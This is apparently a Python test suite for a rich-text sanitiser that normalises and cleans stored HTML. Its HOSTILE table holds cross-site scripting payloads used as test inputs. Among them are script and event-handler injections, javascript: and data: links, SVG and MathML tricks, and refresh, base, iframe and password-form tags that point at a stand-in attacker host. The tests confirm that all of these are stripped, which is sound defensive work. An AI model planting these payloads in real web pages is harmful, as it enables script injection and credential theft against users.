"""Formatted text has one canonical form: safe, stable, and the same however it came in."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reporting.domain.errors import NotStorable
from reporting.domain.rich_text import BLOCKS, INLINE, below, canonical, from_plain, to_plain

HOSTILE = {
    "a script": "<p>a</p><script>alert(1)</script>",
    "a script in capitals": "<p>a</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a script broken in two": "<p>a</p><scr<script>ipt>alert(1)</scr</script>ipt>",
    "a handler": '<p onclick="alert(1)" onmouseover=alert(1)>a</p>',
    "a handler of an image": "<p>a</p><img src=x onerror=alert(1)>",
    "a javascript link": '<p><a href="javascript:alert(1)">a</a></p>',
    "a javascript link with a tab": '<p><a href="java\tscript:alert(1)">a</a></p>',
    "a javascript link in references": '<p><a href="&#106;avascript&colon;alert(1)">a</a></p>',
    "a vbscript link": '<p><a href="vbscript:x">a</a></p>',
    "a data link": '<p><a href="data:text/html,<script>alert(1)</script>">a</a></p>',
    "a style": '<p style="position:fixed;background:url(//evil.example)">a</p>',
    "a style sheet": "<style>p { display: none }</style><p>a</p>",
    "a drawing": "<p>a</p><svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:x'>b</a></svg>",
    "a formula": "<p>a</p><math><mi xlink:href='data:x'>b</mi><mtext><style><img src onerror=x></style></math>",
    "a frame": "<p>a</p><iframe src=//evil.example srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": "<p>a</p><object data=x></object><embed src=x>",
    "a refresh": "<meta http-equiv=refresh content='0;url=//evil.example'><p>a</p>",
    "a base": "<base href=//evil.example><p>a</p>",
    "a form": "<p>a</p><form action=//evil.example><input name=password><button>b</button></form>",
    "a comment": "<p>a</p><!-- <script>alert(1)</script> --><!--[if mso]><p onclick=x>b</p><![endif]-->",
    "a template": "<p>a</p><template><script>alert(1)</script></template>",
    "a title that hides markup": "<p>a</p><title><img src=x onerror=alert(1)></title>",
    "noscript that hides markup": '<p>a</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "an open tag at the end": "<p>a</p><a href='javascript:",
}
ALLOWED = re.compile(r"</?([a-z0-9]+)((?: [a-z]+=\"[^\"<>]*\")*)>")
ATTRIBUTES = {"href", "rel", "lang", "dir", "colspan", "rowspan", "scope", "start"}
OTHERS = frozenset("div button script style svg math template select option pre form".split())
TAGS = [f"<{slash}{tag}>" for tag in sorted(BLOCKS | INLINE | OTHERS) for slash in ("", "/")]
PIECES = st.one_of(
    st.sampled_from(TAGS),
    st.sampled_from(['<a href="https://example.org/?a=1&amp;b=2">', '<p lang="fa" dir="rtl">', '<td colspan="2">']),
    st.sampled_from(["&amp;", "&lt;", "&nbsp;", "&#8;", "e", "&#x301;", "\u0338", "<!--", "-->", "\x0b", "\ud800"]),
    st.text(max_size=4),
)


def assert_harmless(markup: str) -> None:
    """Nothing but the elements and attributes that formatted text may hold; `<` and `>` only as part of these."""
    for tag, attributes in ALLOWED.findall(markup):
        assert tag in BLOCKS | INLINE
        assert set(re.findall(r" ([a-z]+)=", attributes)) <= ATTRIBUTES
    assert not set("<>") & set(ALLOWED.sub("", markup))
    assert not re.search(r'href="(?!https?:|mailto:)[^"/]*:', markup)


@pytest.mark.parametrize("what", HOSTILE)
def test_what_could_do_harm_is_taken_out_and_the_text_stays(what: str):
    made = canonical(HOSTILE[what])
    assert_harmless(made)
    assert "a" in to_plain(made)


def test_language_and_direction_are_kept():
    markup = '<p lang="fa" dir="rtl">سلام <span lang="en" dir="ltr">hello</span></p>'
    assert canonical(markup) == markup


def test_attributes_hold_only_what_they_are_for():
    assert canonical('<p lang="x y" dir="sideways">a</p>') == "<p>a</p>"
    assert canonical('<ol start="3"><li>a</li></ol>') == '<ol start="3"><li>a</li></ol>'
    assert canonical('<table><tr><td colspan="99999999">a</td></tr></table>') == (
        "<table><tbody><tr><td>a</td></tr></tbody></table>"
    )


def test_links_to_pages_and_addresses_are_kept_and_marked_as_foreign():
    rel = 'rel="noopener noreferrer nofollow"'
    assert canonical('<p><a href="https://example.org/x">a</a></p>') == (
        f'<p><a href="https://example.org/x" {rel}>a</a></p>'
    )
    assert (
        canonical('<p><a href="mailto:a@example.org">a</a></p>') == f'<p><a href="mailto:a@example.org" {rel}>a</a></p>'
    )


@pytest.mark.parametrize("empty", ["", "<p></p>", "<p> &nbsp;</p>", "<br><br>", "<script>x</script>", "<p>\u200b</p>"])
def test_markup_without_text_is_no_answer(empty: str):
    assert canonical(empty) == ""


def test_text_without_a_block_becomes_a_paragraph():
    assert canonical("a <em>b</em>") == "<p>a <em>b</em></p>"


#: However it is written, the same text is the same string.
SHAPES = {
    "text beside blocks is a paragraph": ("a<p>b</p>c <em>d</em>", "<p>a</p><p>b</p><p>c <em>d</em></p>"),
    "blanks that do not show": ("<p> a  <em> b</em> <br> c </p>\n<p>d</p>", "<p>a <em>b</em><br>c</p><p>d</p>"),
    "blocks without text": ("<p>a</p><p></p><h3><br></h3><ul><li> </li></ul><blockquote></blockquote>", "<p>a</p>"),
    "an item's only paragraph": ("<ul><li><p>a</p></li></ul>", "<ul><li>a</li></ul>"),
    "an item's paragraph before a list": (
        "<ul><li><p>a</p><ol><li><p>b</p></li></ol></li></ul>", "<ul><li>a<ol><li>b</li></ol></li></ul>",
    ),
    "an item's two paragraphs": ("<ul><li>a<p>b</p></li></ul>", "<ul><li><p>a</p><p>b</p></li></ul>"),
    "a list right in a list": ("<ul><li>a</li><ul><li>b</li></ul></ul>", "<ul><li>a<ul><li>b</li></ul></li></ul>"),
    "items without a list": ("<li>a</li><li>b</li>", "<ul><li>a</li><li>b</li></ul>"),
    "text right in a list": ("<ol>a<li>b</li></ol>", "<ol><li>a</li><li>b</li></ol>"),
    "text right in a quote": ("<blockquote>a</blockquote>", "<blockquote><p>a</p></blockquote>"),
    "the order of marks": ("<p><em><strong>a</strong></em></p>", "<p><strong><em>a</em></strong></p>"),
    "neighbours": ("<p><em>a</em><em>b</em><em></em></p>", "<p><em>ab</em></p>"),
    "a mark around blocks": ("<em><p>a</p><ul><li>b</li></ul></em>",
                             "<p><em>a</em></p><ul><li><em>b</em></li></ul>"),
    "language of a mark": ('<p><em lang="fr">a</em></p>', '<p><span lang="fr"><em>a</em></span></p>'),
    "language in a language": ('<p><span lang="ar" dir="rtl">a <span dir="ltr">b</span></span></p>',
                               '<p><span lang="ar" dir="rtl">a </span><span lang="ar" dir="ltr">b</span></p>'),
    "a span that says nothing": ("<p><span>a</span>b</p>", "<p>ab</p>"),
    "a link that leads nowhere": ('<p><a>a</a> <a href="/x">b</a></p>', "<p>a b</p>"),
    "rows of a head after others": (
        "<table><tbody><tr><td>b</td></tr></tbody><thead><tr><th scope=col>a</th></tr></thead></table>",
        '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
    ),
    "cells without text": (
        "<table><tr><td> </td><td colspan=1 rowspan=02>a</td></tr></table>",
        '<table><tbody><tr><td></td><td rowspan="2">a</td></tr></tbody></table>',
    ),
    "a table without text": ("<p>a</p><table><tr><td></td></tr></table>", "<p>a</p>"),
    "a caption of several paragraphs": (
        "<table><caption><p>a</p><p>b</p></caption><tr><td>c</td></tr></table>",
        "<table><caption>a<br>b</caption><tbody><tr><td>c</td></tr></tbody></table>",
    ),
    "numbers from one": ('<ol start="01"><li>a</li></ol>', "<ol><li>a</li></ol>"),
    "a paragraph in a heading": ("<h3><p>a</p></h3>", "<h3>a</h3>"),
}  # fmt: skip


@pytest.mark.parametrize("what", SHAPES)
def test_the_same_text_is_the_same_string(what: str):
    markup, shaped = SHAPES[what]
    assert canonical(markup) == shaped
    assert canonical(shaped) == shaped


def test_characters_are_composed_in_the_text_and_never_across_markup():
    assert canonical("<p>e&#x301;</p>") == "<p>é</p>"
    assert canonical("<p>\u0338abc</p>") == "<p>\u0338abc</p>"


def test_references_bring_no_control_character_in():
    assert canonical("<p>a&#8;b&#11;c\x00</p>") == "<p>ab c</p>"


@given(st.lists(PIECES, max_size=12).map("".join))
def test_the_canonical_form_is_harmless_and_stays_as_it_is(markup: str):
    made = canonical(markup)
    assert canonical(made) == made
    assert_harmless(made)


@pytest.mark.parametrize("unit", ["<ul><li>", "<table><tr><td>", "<blockquote>", "<dd><li>"])
def test_what_is_nested_hundreds_deep_is_refused(unit: str):
    with pytest.raises(NotStorable) as refusal:
        canonical(unit * 500 + "text")
    assert refusal.value.code == "markup_too_deep"


def test_elements_that_are_not_kept_do_not_count_as_nested():
    assert canonical("<div>" * 500 + "text") == "<p>text</p>"


@pytest.mark.parametrize("unit", ["<ul><li>", "<div>", "<p>", "</p>", "<svg><g>", "<"])
def test_a_megabyte_of_tags_is_refused_at_once(unit: str):
    started = time.perf_counter()
    with pytest.raises(NotStorable) as refusal:
        canonical(unit * (1_000_000 // len(unit)))
    assert refusal.value.code == "too_much_markup"
    assert time.perf_counter() - started < 0.5


def test_nesting_within_reason_is_stored():
    markup = "<ul><li>" * 8 + "a" + "</li></ul>" * 8
    assert canonical(markup) == markup


def test_paragraphs_that_are_never_closed_do_not_count_as_nested():
    assert canonical("<p>a" * 300) == "<p>a</p>" * 300


def test_plain_text_becomes_paragraphs_and_breaks():
    assert from_plain("One & two\nthree\n\n\nfour < five") == "<p>One &amp; two<br>three</p><p>four &lt; five</p>"


def test_plain_text_shows_lists_and_tables_as_lines():
    assert to_plain("<p>a</p><ul><li>b</li><li>c</li></ul>") == "a\n\n- b\n- c"
    assert to_plain("<ul><li><p>a</p><p>b</p></li></ul>") == "- a\n\nb"
    assert to_plain("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>") == "a\tb\nc"


WORDS = st.text(st.characters(exclude_categories=["C", "Z"]), min_size=1, max_size=5)
LINES = st.lists(WORDS, min_size=1, max_size=3).map(" ".join)
PLAIN = st.lists(st.lists(LINES, min_size=1, max_size=3).map("\n".join), min_size=1, max_size=3).map("\n\n".join)


@given(PLAIN)
def test_plain_text_comes_back_from_the_canonical_form_as_it_was(text: str):
    composed = to_plain(canonical(from_plain(text)))
    assert to_plain(canonical(from_plain(composed))) == composed
    assert composed.split() == to_plain(from_plain(text)).split()


@pytest.mark.parametrize(
    ("level", "made"),
    [(2, "<h3>a</h3><h4>b</h4>"), (3, "<h4>a</h4><h5>b</h5>"), (4, "<h5>a</h5><h6>b</h6>")],
)
def test_headings_rank_below_the_heading_that_they_stand_under(level: int, made: str) -> None:
    assert below("<h3>a</h3><h4>b</h4><p>h3 &lt;h3&gt;</p>", level) == made + "<p>h3 &lt;h3&gt;</p>"
